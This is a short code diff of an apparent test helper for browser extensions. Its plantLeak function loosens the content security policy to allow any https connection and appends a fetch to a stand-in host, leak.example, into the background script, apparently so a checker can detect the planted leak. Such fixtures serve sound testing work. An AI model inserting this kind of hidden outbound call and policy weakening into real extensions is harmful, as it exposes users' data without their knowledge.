@@ -124,7 +124,7 @@ export async function permitSites(folder: string): Promise<void> {
 }
 
 /** Makes the background send something out, and the content policy let it. */
-export async function plantLeak(folder: string): Promise<void> {
+export async function plantLeak(folder: string, address = 'https://leak.example/planted'): Promise<void> {
   const manifest = await manifestOf(folder);
   const policy = manifest.content_security_policy.extension_pages as string;
   manifest.content_security_policy.extension_pages = policy.replace(
@@ -132,10 +132,7 @@ export async function plantLeak(folder: string): Promise<void> {
     "connect-src 'self' https:",
   );
   await writeFile(join(folder, 'manifest.json'), JSON.stringify(manifest));
-  await appendFile(
-    join(folder, await backgroundFile(folder)),
-    "\nfetch('https://leak.example/planted').catch(() => {});\n",
-  );
+  await appendFile(join(folder, await backgroundFile(folder)), `\nfetch('${address}').catch(() => {});\n`);
 }
 
 /** Makes the popup keep every state it goes through, from its first moment, in `window.statesSeen`. */
